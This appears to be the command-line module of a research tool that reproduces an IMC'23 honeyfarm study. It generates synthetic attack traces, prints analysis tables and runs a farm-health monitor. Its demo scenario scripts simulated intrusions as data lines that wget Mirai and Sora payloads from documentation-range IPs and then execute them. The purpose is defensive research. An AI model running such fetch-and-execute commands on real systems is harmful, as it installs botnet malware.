"""Command-line interface: ``python -m repro <command>``.

Commands:

* ``generate`` — generate a scaled trace and save it (npz or jsonl);
* ``report``   — generate (or load) a trace and print the paper-vs-measured
  summary;
* ``tables``   — print Tables 1-6 for a generated trace.
"""

from __future__ import annotations

import argparse
import math
import os
import sys


def _scale(value: str) -> float:
    """Parse ``--scale``: the downscale denominator vs the paper's 402 M
    sessions, a finite number >= 1 ("4000" generates 1/4000 of them)."""
    try:
        denominator = float(value)
    except ValueError:
        denominator = math.nan
    if not (math.isfinite(denominator) and denominator >= 1):
        raise argparse.ArgumentTypeError(
            f"--scale takes the downscale denominator, a finite number >= 1 "
            f"(e.g. 4000 for 1/4000 of the paper's sessions), not {value!r}")
    return denominator


def _hash_scale(value: str) -> float:
    """Parse ``--hash-scale``: the unique-hash budget vs the paper's 64k,
    a finite number > 0."""
    try:
        share = float(value)
    except ValueError:
        share = math.nan
    if not (math.isfinite(share) and share > 0):
        raise argparse.ArgumentTypeError(
            f"--hash-scale takes the unique-hash budget vs the paper's 64k, "
            f"a finite number > 0 (e.g. 0.02), not {value!r}")
    return share


def _workers(value: str) -> int:
    """Parse ``--workers``: a worker-process count, an integer >= 1."""
    try:
        count = int(value)
    except ValueError:
        count = 0
    if count < 1:
        raise argparse.ArgumentTypeError(
            f"--workers takes a worker-process count, an integer >= 1, "
            f"not {value!r}")
    return count


def _sim_seconds(value: str) -> float:
    """Parse a ``monitor`` span of simulated seconds, a finite number > 0."""
    try:
        seconds = float(value)
    except ValueError:
        seconds = math.nan
    if not 0 < seconds < math.inf:
        raise argparse.ArgumentTypeError(
            f"takes simulated seconds, a finite number > 0, not {value!r}")
    return seconds


def _add_scenario_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--scale", type=_scale, default=4000.0,
                        help="downscale denominator vs the paper's 402M "
                             "sessions, a finite number >= 1 (e.g. 4000); "
                             "default 4000")
    parser.add_argument("--seed", type=int, default=2023)
    parser.add_argument("--hash-scale", type=_hash_scale, default=None,
                        help="unique-hash budget vs the paper's 64k "
                             "(default: derived from --scale)")
    parser.add_argument("--workers", type=_workers, default=None,
                        help="generate with N worker processes (output "
                             "is identical for every N). Default: "
                             "$REPRO_WORKERS if set, else 1")
    parser.add_argument("--backend", default=None,
                        choices=("inline", "pool"),
                        help="execution backend for generation (see "
                             "repro.sched; backends are byte-identical). "
                             "Default: inline for one worker, pool for more")
    parser.add_argument("--metrics", nargs="?", const="-", default=None,
                        metavar="PATH",
                        help="after the command, print the pipeline stage "
                             "timings and counters to stderr; with PATH, "
                             "also dump the registry as JSON there")
    parser.add_argument("--cache-dir", default=None, metavar="DIR",
                        help="cache generated datasets under DIR, keyed by "
                             "a fingerprint of the scenario config; a rerun "
                             "with the same config loads instead of "
                             "regenerating (default: $REPRO_CACHE if set)")
    parser.add_argument("--ledger", nargs="?", const="run_ledger.jsonl",
                        default=None, metavar="PATH",
                        help="write the run manifest (config fingerprint, "
                             "environment snapshot, per-task telemetry, "
                             "alerts, artifact digests, final store sha256) "
                             "as JSON lines to PATH after the command; bare "
                             "--ledger uses run_ledger.jsonl (REPRO_LEDGER "
                             "env does the same)")
    _add_trace_args(parser)


def _add_trace_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--trace", nargs="?", const="-", default=None,
                        metavar="PATH",
                        help="record the flight-recorder event stream; bare "
                             "--trace renders the span timeline to stderr, "
                             "with PATH the events also stream there as "
                             "JSONL (REPRO_TRACE env does the same)")
    parser.add_argument("--trace-chrome", default=None, metavar="PATH",
                        help="with tracing on, also write the Chrome "
                             "trace_event JSON for about://tracing")


def _add_load_arg(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--load", default=None, metavar="PATH",
                        help="analyse an existing trace instead of "
                             "generating: a dataset directory written by "
                             "save_dataset, or a bare .npz / .jsonl[.gz] "
                             "trace (deployment is rebuilt from --seed, "
                             "intel starts empty)")


def _config(args):
    from repro.workload import ScenarioConfig

    extra = {}
    if args.hash_scale is not None:
        extra["hash_scale"] = args.hash_scale
    return ScenarioConfig.from_denominator(args.scale, seed=args.seed, **extra)


def _run_options(args):
    """The :class:`repro.api.RunOptions` for a scenario subcommand.

    Unset ``--workers`` and ``--backend`` are left to
    :class:`~repro.api.RunOptions`: ``$REPRO_WORKERS`` else one worker,
    inline for one worker and the pool for more.
    """
    from repro.api import RunOptions
    from repro.workload.cache import resolve_cache_dir

    return RunOptions(
        backend=getattr(args, "backend", None),
        workers=getattr(args, "workers", None),
        cache=resolve_cache_dir(getattr(args, "cache_dir", None)),
    )


def _dataset(args):
    """The dataset a report-style command should analyse.

    ``--load`` wins (no generation at all); otherwise generate through the
    :mod:`repro.api` façade, consulting the fingerprint cache when
    ``--cache-dir`` or ``$REPRO_CACHE`` names one.
    """
    config = _config(args)
    load_path = getattr(args, "load", None)
    if load_path:
        from repro.api import load

        try:
            return load(load_path, config)
        except ValueError as exc:
            raise SystemExit(f"--load: {exc}")

    from repro.api import generate

    return generate(config, options=_run_options(args))


def cmd_generate(args) -> int:
    from repro.api import generate
    from repro.obs import get_ledger, sha256_file
    from repro.store.io import write_jsonl
    from repro.store.npz import save_npz
    from repro.workload.io import save_dataset

    config = _config(args)
    print(f"generating {config.total_sessions:,} sessions "
          f"(seed {config.seed}) ...", file=sys.stderr)
    dataset = generate(config, options=_run_options(args))
    store_path = args.out
    if args.out.endswith(("/", os.sep)) or os.path.isdir(args.out):
        # A directory gets the whole bundle, so `--load DIR` keeps the
        # deployment, campaigns and intel a bare store leaves behind.
        store_path = save_dataset(dataset, args.out)
        print(f"wrote {len(dataset.store):,} sessions and the dataset "
              f"metadata to {args.out}")
    elif args.out.endswith((".jsonl", ".jsonl.gz")):
        count = write_jsonl(iter(dataset.store), args.out)
        print(f"wrote {count:,} records to {args.out}")
    else:
        save_npz(dataset.store, args.out)
        print(f"wrote {len(dataset.store):,} sessions to {args.out}")
    ledger = get_ledger()
    if ledger is not None:
        ledger.record_artifact("store", store_path, sha256_file(store_path))
    return 0


def cmd_report(args) -> int:
    from repro.core.report import print_summary

    dataset = _dataset(args)
    print(print_summary(dataset))
    if getattr(args, "streaming", False):
        from repro.analytics import StreamingAnalytics

        analytics = StreamingAnalytics()
        analytics.ingest_store(dataset.store)
        analytics.export_gauges()
        print("\n-- streaming analytics (sketch answers vs the batch "
              "numbers above) --")
        print(analytics.render_panels())
    return 0


def cmd_tables(args) -> int:
    from repro.core.tables import (
        format_table,
        table1_categories,
        table2_passwords,
        table3_commands,
        tables_4_5_6,
    )

    dataset = _dataset(args)
    store = dataset.store
    labels = {c.primary_hash: c.campaign_id for c in dataset.campaigns
              if c.primary_hash}

    t1 = table1_categories(store)
    print("Table 1 — session categories")
    print(format_table(
        [(cat, f"{share:.2%}", f"{t1.ssh_share_of_category[cat]:.2%}")
         for cat, share in t1.overall.items()],
        ["category", "share", "ssh share"]))
    print("\nTable 2 — top successful passwords")
    print(format_table(table2_passwords(store), ["password", "logins"]))
    print("\nTable 3 — top commands")
    print(format_table(table3_commands(store, 15), ["command", "sessions"]))
    hash_tables = tables_4_5_6(store, dataset.intel, labels)
    for rows, title in ((hash_tables.by_sessions,
                         "Table 4 — top hashes by sessions"),
                        (hash_tables.by_clients,
                         "Table 5 — top hashes by client IPs"),
                        (hash_tables.by_days,
                         "Table 6 — top hashes by active days")):
        print(f"\n{title}")
        print(format_table(
            [(r.hash_label, r.n_sessions, r.n_clients, r.n_days, r.tag,
              r.n_honeypots) for r in rows],
            ["hash", "sessions", "clients", "days", "tag", "pots"]))
    return 0


def cmd_validate(args) -> int:
    from repro.workload.validation import validate

    dataset = _dataset(args)
    report = validate(dataset)
    print(report.render())
    if report.passed and report.not_applicable:
        # A check that measured nothing did not pass: a bare store lacks
        # the intel DB, so its verdict cannot be PASSED.
        names = ", ".join(c.name for c in report.not_applicable)
        print(f"calibration: INCOMPLETE (n/a: {names})")
        return 1
    if report.passed:
        print("calibration: PASSED")
        return 0
    print(f"calibration: FAILED ({len(report.failures)} hard checks)")
    return 1


def _emit_metrics(flag) -> None:
    """Report the run's metrics registry when asked to.

    ``--metrics`` (bare) prints the stage-timing tree and counters to
    stderr; ``--metrics PATH`` additionally dumps the registry JSON to
    ``PATH``.  Without the flag the ``REPRO_METRICS`` environment
    variable is consulted: ``1``/``-``/``stderr`` mean stderr-only,
    anything else is treated as a JSON path.  Collection is always on
    (it is just dict increments); this only controls reporting.
    """
    target = flag if flag is not None else os.environ.get("REPRO_METRICS")
    if not target:
        return
    from repro.obs import dump_json, get_metrics, render

    metrics = get_metrics()
    print(render(metrics), file=sys.stderr)
    if target not in ("-", "1", "stderr"):
        dump_json(metrics, target)
        print(f"metrics json written to {target}", file=sys.stderr)


def cmd_monitor(args) -> int:
    """Live farm-health monitor: demo scenario, or tail a JSONL trace."""
    from repro.analytics import StreamingAnalytics
    from repro.farm.health import FarmHealthMonitor, HealthConfig

    monitor = FarmHealthMonitor(HealthConfig(
        liveness_timeout=args.liveness_timeout,
        interval=args.interval,
        z_threshold=args.z_threshold,
    ))
    analytics = StreamingAnalytics()
    if args.input:
        status = _monitor_tail(args, monitor, analytics)
    else:
        status = _monitor_demo(args, monitor, analytics)
    if args.prometheus:
        from repro.obs import get_metrics, render_prometheus
        from repro.obs.atomic import staged_file

        with staged_file(args.prometheus, "w") as fh:
            fh.write(render_prometheus(get_metrics()))
        print(f"prometheus metrics written to {args.prometheus}",
              file=sys.stderr)
    return status


def _monitor_report(monitor, analytics=None) -> None:
    print(monitor.render_table())
    if analytics is not None and analytics.events_seen:
        analytics.export_gauges()
        print("\n-- streaming analytics (live uniques / top-k) --")
        print(analytics.render_panels())
    if monitor.notices:
        print("\n-- fresh-hash notifications --")
        for notice in monitor.notices:
            print(notice.render())
            print()


def _tail_jsonl(args):
    """Yield the JSON events of the ``--input`` stream, in order.

    Reads to the end of the file; with ``--follow`` (and no ``--once``)
    polls every 0.2 s, yielding ``None`` after each wait, until
    ``--idle-exit`` seconds pass without a new line.  Lines that are not
    a JSON object are skipped, with one warning once the stream ends.
    """
    import json
    import time

    follow = args.follow and not getattr(args, "once", False)
    bad_lines = 0
    idle = 0.0
    with open(args.input, "r", encoding="utf-8") as fh:
        while True:
            line = fh.readline()
            if not line:
                if not follow or idle >= args.idle_exit:
                    break
                time.sleep(0.2)
                idle += 0.2
                yield None
                continue
            idle = 0.0
            if not line.strip():
                continue
            try:
                event = json.loads(line)
            except ValueError:
                event = None
            if not isinstance(event, dict):
                bad_lines += 1
                continue
            yield event
    if bad_lines:
        print(f"warning: {bad_lines} unparseable lines skipped",
              file=sys.stderr)


def _monitor_tail(args, monitor, analytics) -> int:
    """Consume a flight-recorder JSONL stream (optionally following it)."""
    from repro.analytics.streaming import FOLD_BATCH
    from repro.obs.trace import validate_trace

    events = []
    unfed = []  # parsed events the analytics have not seen yet
    for event in _tail_jsonl(args):
        if event is not None:
            monitor.feed(event)
            unfed.append(event)
            if args.validate:
                events.append(event)
        if unfed and (event is None or len(unfed) >= FOLD_BATCH):
            analytics.feed_many(unfed)
            unfed = []
    analytics.feed_many(unfed)
    _monitor_report(monitor, analytics)
    if args.validate:
        problems = validate_trace(events)
        if problems:
            print(f"trace INVALID: {len(problems)} problems",
                  file=sys.stderr)
            for problem in problems[:20]:
                print(f"  {problem}", file=sys.stderr)
            return 1
        print(f"trace valid: {len(events)} events", file=sys.stderr)
    return 0


def _monitor_demo(args, monitor, analytics=None) -> int:
    """A small live-farm scenario exercising every alert path.

    Deterministic in ``--seed``: round-robin scans (half the pots go silent
    mid-run — the liveness demonstration), periodic scouting probes, two
    intrusions whose ``wget`` drops never-before-seen payloads (the
    fresh-hash notification path), and a session burst near the end (the
    rate-drift demonstration).
    """
    from repro.farm.live import (
        IntrusionBehavior,
        LiveFarm,
        ScanBehavior,
        ScoutBehavior,
    )

    def tap(event):
        monitor.on_event(event)
        if analytics is not None:
            analytics.on_event(event)

    farm = LiveFarm(seed=args.seed, n_honeypots=args.pots, event_tap=tap)
    pots = len(farm.honeypots)
    monitor.watch(h.honeypot_id for h in farm.honeypots)
    duration = args.duration
    busy = max(1, min(3, pots))  # pots that stay active all run

    when, i = 5.0, 0
    while when < duration:
        index = i % pots if when < duration / 2 else i % busy
        farm.launch(0x0A000000 + (i * 7919) % 65521, index,
                    ScanBehavior(), at=when)
        i += 1
        when += 20.0
    when, j = 45.0, 0
    while when < duration:
        farm.launch(0x0B000000 + (j * 104729) % 65521, j % busy,
                    ScoutBehavior(), at=when)
        j += 1
        when += 150.0
    farm.launch(0x0C000001, 0, IntrusionBehavior(lines=(
        "wget http://203.0.113.9/bins/mirai.arm7",
        "chmod +x mirai.arm7",
        "./mirai.arm7",
    )), at=duration * 0.25)
    farm.launch(0x0C000002, 1 % pots, IntrusionBehavior(lines=(
        "wget http://198.51.100.7/payload/sora.sh",
        "sh sora.sh",
    )), at=duration * 0.6)
    burst0 = duration * 0.85
    for k in range(40):
        farm.launch(0x0D000000 + k, k % busy, ScanBehavior(),
                    at=burst0 + float(k))

    farm.run()
    farm.harvest(duration + 600.0)
    monitor.advance(duration)
    _monitor_report(monitor, analytics)
    return 0


def cmd_top(args) -> int:
    """Scheduler dashboard: replay/tail a trace, or run a demo generate."""
    from repro.obs.ledger import TopFold

    fold = TopFold()
    if args.input:
        return _top_tail(args, fold)
    return _top_demo(args, fold)


def _top_tail(args, fold) -> int:
    """Fold a flight-recorder JSONL stream and render it.

    ``--once`` reads what is there and renders one frame (the CI mode);
    ``--follow`` keeps tailing, repainting every ``--interval`` seconds
    until the stream goes idle for ``--idle-exit`` seconds.
    """
    import time

    last_render = time.monotonic()
    for event in _tail_jsonl(args):
        if event is not None:
            fold.feed(event)
        if args.follow and not args.once and \
                time.monotonic() - last_render >= args.interval:
            _top_frame(fold)
            last_render = time.monotonic()
    _top_frame(fold, final=True)
    return 0


def _top_frame(fold, final: bool = False) -> None:
    from repro.sched.dashboard import render_top

    if not final and sys.stdout.isatty():
        print("\x1b[2J\x1b[H", end="")
    print(render_top(fold))
    if not final:
        print(flush=True)


def _top_demo(args, fold) -> int:
    """A small pool-backed scheduled generate, rendered as a final frame."""
    from repro.obs.trace import use_fold
    from repro.sched.scheduler import generate_scheduled
    from repro.workload.config import ScenarioConfig

    config = ScenarioConfig(scale=1 / 80000, seed=args.seed,
                            hash_scale=0.004)
    print(f"demo: scheduled generate, pool x{args.workers} "
          f"({config.total_sessions:,} sessions) ...", file=sys.stderr)
    with use_fold(fold.feed):
        generate_scheduled(config, backend="pool", workers=args.workers)
    _top_frame(fold, final=True)
    return 0


def _run_traced(args, target: str) -> int:
    """Run the command under a flight recorder, then report the trace."""
    from repro.obs import dump_chrome_trace, render_timeline
    from repro.obs.trace import Tracer, use_tracer

    to_file = target not in ("-", "1", "stderr")
    sink = open(target, "w", encoding="utf-8") if to_file else None
    tracer = Tracer(sink=sink)
    try:
        with use_tracer(tracer):
            status = args.func(args)
    finally:
        if sink is not None:
            sink.close()
    events = tracer.to_list()
    print(render_timeline(events), file=sys.stderr)
    note = f"trace: {tracer.emitted} events"
    if tracer.dropped:
        note += f" ({tracer.dropped} dropped from the ring buffer)"
    if to_file:
        note += f", jsonl streamed to {target}"
    print(note, file=sys.stderr)
    chrome = getattr(args, "trace_chrome", None)
    if chrome:
        dump_chrome_trace(events, chrome)
        print(f"chrome trace written to {chrome}", file=sys.stderr)
    return status


def _run_ledgered(args, target: str, runner) -> int:
    """Run the command with the run ledger armed, then write the manifest.

    The CLI pins the run ``kind`` (the subcommand name) up front;
    :func:`repro.api.generate` enriches the same record with the config
    fingerprint and backend once it resolves them.  The manifest is
    written even when the command fails — a failed run's ledger is the
    artefact you want most — and a Ctrl-C ends it with the final status
    ``interrupted`` before the interrupt propagates.
    """
    from repro.obs import RunLedger, get_metrics, use_ledger

    ledger = RunLedger()
    ledger.begin_run(args.command)
    final = "exit-1"
    try:
        with use_ledger(ledger):
            status = runner()
        final = "ok" if status == 0 else f"exit-{status}"
    except KeyboardInterrupt:
        final = "interrupted"
        raise
    finally:
        ledger.record_stages(get_metrics())
        ledger.finish(final)
        count = ledger.write_jsonl(target)
        print(f"run ledger: {count} records written to {target}",
              file=sys.stderr)
    return status


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="Honeyfarm reproduction (IMC'23) command-line interface",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    p_generate = sub.add_parser("generate", help="generate and save a trace")
    _add_scenario_args(p_generate)
    p_generate.add_argument("--out", default="trace.npz",
                            help=".npz (fast) or .jsonl/.jsonl.gz output; "
                                 "a directory (existing, or a path ending "
                                 "in /) gets the full dataset bundle")
    p_generate.set_defaults(func=cmd_generate)

    p_report = sub.add_parser("report", help="print paper-vs-measured summary")
    _add_scenario_args(p_report)
    _add_load_arg(p_report)
    p_report.add_argument("--streaming", action="store_true",
                          help="also replay the trace through the streaming "
                               "sketch analytics (repro.analytics) and print "
                               "its uniques / mix / top-k panels")
    p_report.set_defaults(func=cmd_report)

    p_tables = sub.add_parser("tables", help="print Tables 1-6")
    _add_scenario_args(p_tables)
    _add_load_arg(p_tables)
    p_tables.set_defaults(func=cmd_tables)

    p_validate = sub.add_parser(
        "validate", help="check calibration against the paper's targets")
    _add_scenario_args(p_validate)
    _add_load_arg(p_validate)
    p_validate.set_defaults(func=cmd_validate)

    p_lint = sub.add_parser(
        "lint", help="determinism & invariant linter (static analysis; "
                     "see DESIGN 6e)")
    from repro.lint.cli import add_lint_arguments, cmd_lint

    add_lint_arguments(p_lint)
    p_lint.set_defaults(func=cmd_lint)

    p_monitor = sub.add_parser(
        "monitor", help="live farm-health monitor (demo scenario, or tail "
                        "a --trace JSONL stream)")
    p_monitor.add_argument("--input", default=None, metavar="PATH",
                           help="consume a flight-recorder JSONL trace "
                                "instead of running the demo scenario")
    p_monitor.add_argument("--follow", action="store_true",
                           help="with --input, keep tailing for new lines")
    p_monitor.add_argument("--idle-exit", type=float, default=10.0,
                           help="with --follow, stop after this many "
                                "seconds without new lines")
    p_monitor.add_argument("--validate", action="store_true",
                           help="schema-validate the consumed events; "
                                "exit 1 on problems")
    p_monitor.add_argument("--seed", type=int, default=7)
    p_monitor.add_argument("--duration", type=_sim_seconds, default=3600.0,
                           help="demo scenario length in simulated seconds")
    p_monitor.add_argument("--pots", type=int, default=8,
                           help="honeypots in the demo farm")
    p_monitor.add_argument("--interval", type=_sim_seconds, default=60.0,
                           help="drift-statistics interval (sim seconds)")
    p_monitor.add_argument("--liveness-timeout", type=_sim_seconds,
                           default=900.0)
    p_monitor.add_argument("--z-threshold", type=float, default=3.0)
    p_monitor.add_argument("--prometheus", default=None, metavar="PATH",
                           help="write the metrics registry in Prometheus "
                                "text format after the run")
    _add_trace_args(p_monitor)
    p_monitor.set_defaults(func=cmd_monitor)

    p_top = sub.add_parser(
        "top", help="live scheduler dashboard: per-worker heartbeat rows, "
                    "task progress and recent alerts from a --trace JSONL "
                    "stream (or a built-in demo generate)")
    p_top.add_argument("--input", default=None, metavar="PATH",
                       help="flight-recorder JSONL stream to render "
                            "(e.g. the --trace file of a running generate)")
    p_top.add_argument("--once", action="store_true",
                       help="with --input, read what is there, render one "
                            "frame and exit (the CI mode)")
    p_top.add_argument("--follow", action="store_true",
                       help="with --input, keep tailing for new lines")
    p_top.add_argument("--idle-exit", type=float, default=10.0,
                       help="with --follow, stop after this many seconds "
                            "without new lines")
    p_top.add_argument("--interval", type=float, default=2.0,
                       help="with --follow, seconds between repaints")
    p_top.add_argument("--seed", type=int, default=7,
                       help="demo-mode scenario seed")
    p_top.add_argument("--workers", type=_workers, default=2,
                       help="demo-mode pool worker count")
    p_top.set_defaults(func=cmd_top)

    args = parser.parse_args(argv)
    trace_flag = getattr(args, "trace", None)
    trace_target = (trace_flag if trace_flag is not None
                    else os.environ.get("REPRO_TRACE"))
    if trace_target:
        runner = lambda: _run_traced(args, trace_target)  # noqa: E731
    else:
        runner = lambda: args.func(args)  # noqa: E731
    ledger_flag = getattr(args, "ledger", None)
    ledger_target = (ledger_flag if ledger_flag is not None
                     else os.environ.get("REPRO_LEDGER"))
    try:
        if ledger_target:
            status = _run_ledgered(args, ledger_target, runner)
        else:
            status = runner()
        sys.stdout.flush()
    except KeyboardInterrupt:
        print("repro: interrupted", file=sys.stderr)
        return 130
    except BrokenPipeError:
        # A downstream reader (head, grep -q) closed the pipe; park stdout
        # on devnull so the interpreter's exit flush is quiet.
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
        return 0
    _emit_metrics(getattr(args, "metrics", None))
    return status


if __name__ == "__main__":
    raise SystemExit(main())
